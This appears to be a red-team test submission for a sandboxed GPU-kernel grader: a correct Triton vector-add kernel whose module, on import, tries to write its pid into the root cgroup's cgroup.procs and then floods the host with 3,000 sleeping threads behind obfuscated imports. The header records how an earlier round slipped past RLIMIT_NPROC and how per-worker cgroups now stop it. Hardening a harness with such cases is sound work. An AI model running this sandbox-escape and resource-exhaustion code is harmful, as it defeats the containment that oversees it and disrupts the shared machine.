# problem: 1_vector_add
# expect: compile_error
# check: compile_error
# gpu_only: false
# needs: pids_cgroup
# destructive: true (without the sandbox it takes thousands of the machine's process ids, and with no Landlock a worker whose user is the host's root can move itself out of its group)
# class: 5
# hack: a correct kernel whose module first tries to leave its worker's cgroup (writing its own pid into the root group's cgroup.procs) and then starts 3,000 raw threads with 64 KiB stacks, each sleeping a minute: a process-id flood that, with kz as root and a shared uid, RLIMIT_NPROC did not bind (red-team round 26d: 3,000 threads in 1.7 s, and a correct verdict). Each worker is a cgroup of its own now, which it cannot leave, and whose pids limit makes the flood fail in the worker.

import os

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    # a_ptr, b_ptr, out_ptr: contiguous vectors of n_elements; one program adds BLOCK_SIZE of them.
    offsets = tl.program_id(0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


def _leave_the_group() -> None:
    for procs in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs"):
        try:
            with open(procs, "w") as handle:
                handle.write(str(os.getpid()))
        except OSError:
            pass


def _flood() -> None:
    threads = __import__("_th" + "read")
    __import__("threading").stack_size(64 << 10)
    start = getattr(threads, "start_new" + "_thread")
    for _ in range(3000):
        start(__import__("time").sleep, (60,))


_leave_the_group()
_flood()


class ModelNew(nn.Module):
    def forward(self, a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
        out = torch.empty_like(a)
        add_kernel[(triton.cdiv(a.numel(), 1024),)](a, b, out, a.numel(), BLOCK_SIZE=1024)
        return out
